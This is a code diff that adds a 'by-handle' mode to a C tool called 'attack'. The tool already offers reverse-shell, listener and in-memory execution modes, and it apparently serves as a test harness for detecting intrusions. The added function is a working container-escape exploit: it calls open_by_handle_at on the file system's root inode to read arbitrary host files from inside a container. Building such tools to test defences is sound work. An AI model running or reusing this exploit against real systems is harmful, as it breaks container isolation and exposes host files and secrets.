@@ -94,6 +94,23 @@ static void memfd(const char *program)
 	err(1, "execute from memory");
 }
 
+/* TH-12: reads a file of the host by the number of its file system's root, which is
+ * always 2, from any file of that file system. */
+static void by_handle(const char *volume, const char *path)
+{
+	struct {
+		struct file_handle head;
+		unsigned int inode, generation;
+	} root = {{.handle_bytes = 8, .handle_type = 1}, 2, 0};
+	char buf[4096];
+	int at = open(volume, O_RDONLY), dir = open_by_handle_at(at, &root.head, O_RDONLY | O_DIRECTORY);
+	int fd = dir < 0 ? -1 : openat(dir, path, O_RDONLY);
+	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));
+
+	if (n < 0 || write(1, buf, n) != n)
+		err(1, "%s: %d %d %d", path, at, dir, fd);
+}
+
 /* Opens and closes a file so many times. */
 static void storm(const char *times, const char *path)
 {
@@ -155,6 +172,8 @@ int main(int argc, char **argv)
 		reverse(argv[2]);
 	else if (!strcmp(what, "memfd") && argc == 3)
 		memfd(argv[2]);
+	else if (!strcmp(what, "by-handle") && argc == 4)
+		by_handle(argv[2], argv[3]);
 	else if (!strcmp(what, "storm") && argc == 4)
 		storm(argv[2], argv[3]);
 	else if (!strcmp(what, "threads") && argc == 3)
@@ -162,7 +181,8 @@ int main(int argc, char **argv)
 	else if (!strcmp(what, "orphan") && argc == 3)
 		orphan(argv[2]);
 	else
-		errx(2, "usage: attack traceme | listen PORT | reverse PORT | memfd PROGRAM | storm TIMES FILE | "
+		errx(2, "usage: attack traceme | listen PORT | reverse PORT | memfd PROGRAM | by-handle VOLUME FILE | "
+			"storm TIMES FILE | "
 			"threads PROGRAM | orphan PROGRAM");
 	return 0;
 }
